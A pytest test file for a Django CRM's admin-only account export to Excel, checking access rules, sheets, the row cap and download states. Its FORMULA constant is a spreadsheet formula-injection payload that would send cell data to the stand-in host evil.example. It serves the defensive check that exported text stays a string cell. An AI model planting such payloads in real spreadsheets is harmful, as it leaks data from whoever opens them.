"""The full-account export: Administrators only, written by a queued task, one sheet per kind,
text never turned into a formula, the row cap."""

import io

import openpyxl
import pytest
from django.urls import reverse

from activities.models import Activity, ActivityType
from imports import exports
from imports.models import AccountExport
from tests.factories import CompanyFactory, DealFactory, PersonFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(("persona", "status"), [("manager", 403), ("rep", 403), ("restricted", 403)])
def test_only_administrators_may_export_the_whole_account(client, personas, persona, status):
    client.force_login(getattr(personas, persona))
    assert client.get(reverse("imports:account_export")).status_code == status
    assert client.post(reverse("imports:account_export")).status_code == status
    ready = AccountExport.objects.create(requested_by=personas.admin, status=AccountExport.Status.DONE)
    assert client.get(reverse("imports:account_export"), {"download": ready.pk}).status_code == status
    assert AccountExport.objects.get() == ready


def _export(client, admin, django_capture_on_commit_callbacks) -> AccountExport:
    client.force_login(admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("imports:account_export"))
    assert response.status_code == 302
    return AccountExport.objects.get()


def test_the_workbook_has_a_sheet_per_kind_and_formulas_stay_text(
    client, admin, django_capture_on_commit_callbacks
):
    acme = CompanyFactory(name=FORMULA, owner=admin)
    anna = PersonFactory(first_name="Anna", last_name="Berg", company=acme, owner=admin)
    DealFactory(name="Big one", company=acme, owner=admin)
    Activity.objects.create(
        subject="@SUM(1+1)", person=anna, owner=admin, activity_type=ActivityType.objects.first()
    )
    export = _export(client, admin, django_capture_on_commit_callbacks)
    assert export.status == AccountExport.Status.DONE
    assert export.counts == {"companies": 1, "people": 1, "leads": 0, "deals": 1, "activities": 1}
    page = client.get(reverse("imports:account_export"))
    download = reverse("imports:account_export") + f"?download={export.pk}"
    assert download.encode() in page.content and b"hx-trigger" not in page.content  # ready: no polling
    response = client.get(download)
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert workbook.sheetnames == ["Companies", "People", "Leads", "Deals", "Activities"]
    name = workbook["Companies"]["A2"]
    assert name.value == FORMULA and name.data_type == "s"  # a string cell, never a formula
    subjects = [
        cell
        for row in workbook["Activities"].iter_rows(min_row=2)
        for cell in row
        if cell.value == "@SUM(1+1)"
    ]
    assert subjects and subjects[0].data_type == "s"
    assert workbook["People"]["E2"].value == FORMULA  # the company column


def test_a_sheet_past_the_row_cap_is_cut_and_says_so(
    client, admin, django_capture_on_commit_callbacks, monkeypatch
):
    monkeypatch.setattr(exports, "ROW_CAP", 2)
    for number in range(3):
        CompanyFactory(name=f"C{number}", owner=admin)
    export = _export(client, admin, django_capture_on_commit_callbacks)
    assert export.counts["companies"] == 2 and export.truncated == ["companies"]
    assert b"Cut at the row cap" in client.get(reverse("imports:account_export")).content


def test_a_requester_no_longer_administrator_gets_a_failed_export_and_no_file(admin, rep):

    export = AccountExport.objects.create(requested_by=rep)
    exports.account_export_run(export_id=export.pk)
    export.refresh_from_db()
    assert export.status == AccountExport.Status.FAILED and not export.file and export.message


def test_another_administrator_s_pending_export_is_not_downloadable(client, admin):
    export = AccountExport.objects.create(requested_by=admin)  # still waiting
    client.force_login(admin)
    for pk in (export.pk, "x1", "999999"):
        assert client.get(reverse("imports:account_export"), {"download": pk}).status_code == 404
    page = client.get(reverse("imports:account_export"))
    assert b'hx-trigger="every 3s"' in page.content  # waiting: the table polls
